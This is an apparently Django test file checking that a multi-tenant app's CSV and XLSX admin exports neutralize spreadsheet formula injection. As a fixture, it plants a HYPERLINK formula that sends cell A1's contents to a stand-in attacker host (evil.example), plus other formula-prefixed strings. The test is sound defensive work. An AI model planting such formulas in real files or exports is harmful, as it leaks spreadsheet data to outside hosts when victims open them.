"""Every CSV and XLSX the product writes is inert: a planted formula comes out as text."""

import csv
import io

import openpyxl
import pytest
from django.forms import BooleanField

from attendance.models import ClientAccessLog, Message
from common.spreadsheets import FORMULA_STARTS, neutralize, unneutralize
from dialer.models import DialerExport, DialerExportItem
from tenants import audit

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
PLANTS = [PLANTED, "+55 11 ligue", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def risky(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", PLANTS)
def test_neutralize_reads_back(text):
    assert not risky(neutralize(text))
    assert unneutralize(neutralize(text)) == text
    assert neutralize("Maria") == "Maria" and neutralize(12) == 12


def cells_of(response, fmt):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for row in workbook.active.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), "fórmula gravada no XLSX"
        return [cell.value for cell in cells]
    text = content.decode("utf-8-sig")
    delimiter = ";" if ";" in text[:200] else ","
    return [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


def export(http, url, fmt_index):
    form = http.get(url).context["form"]
    data = {"format": str(fmt_index), **{k: "on" for k, f in form.fields.items() if isinstance(f, BooleanField)}}
    if "resource" in form.fields:
        data["resource"] = "0"
    response = http.post(url, data)
    assert response.status_code == 200, url
    return response


def test_every_export_writes_planted_formulas_as_text(client, tenant, tenant_admin, operator, make_client, creditor):
    creditor.name = PLANTED
    creditor.save()
    planted_client = make_client(name=PLANTED, notes="-1+1", city="@cidade")
    ClientAccessLog.objects.create(tenant=tenant, client=planted_client, user=operator, call_id=PLANTED)
    Message.objects.create(
        tenant=tenant, client=planted_client, direction="recebida", body=PLANTED, sent_at="2026-01-01T10:00Z"
    )
    audit.record(tenant, tenant_admin, audit.Action.CREDITOR_CHANGED, creditor, changes={"nome": ["a", PLANTED]})
    client.force_login(tenant_admin)
    checked = 0
    for url in (
        "/admin/core/client/export/",
        "/admin/attendance/message/export/",
        "/admin/attendance/clientaccesslog/export/",
        "/admin/tenants/auditevent/export/",
    ):
        for index, fmt in enumerate(("csv", "xlsx")):
            values = cells_of(export(client, url, index), fmt)
            assert any(isinstance(v, str) and "HYPERLINK" in v for v in values), f"{url} {fmt} sem o valor plantado"
            assert not [v for v in values if risky(v)], f"{url} ({fmt}) escreveu uma fórmula"
            checked += 1
    assert checked == 8


def test_the_failures_csv_is_inert(client, tenant, tenant_admin, make_client):
    planted_client = make_client(name=PLANTED)
    run = DialerExport.objects.create(tenant=tenant, campaign_id=1, campaign_name="C", list_name="L")
    DialerExportItem.objects.create(
        tenant=tenant, export=run, client=planted_client, campaign_id=1, status="falhou", error="=1+1"
    )
    client.force_login(tenant_admin)
    response = client.get(f"/admin/dialer/dialerexport/{run.pk}/falhas.csv")
    values = cells_of(response, "csv")
    assert any("HYPERLINK" in v for v in values)
    assert not [v for v in values if risky(v)]
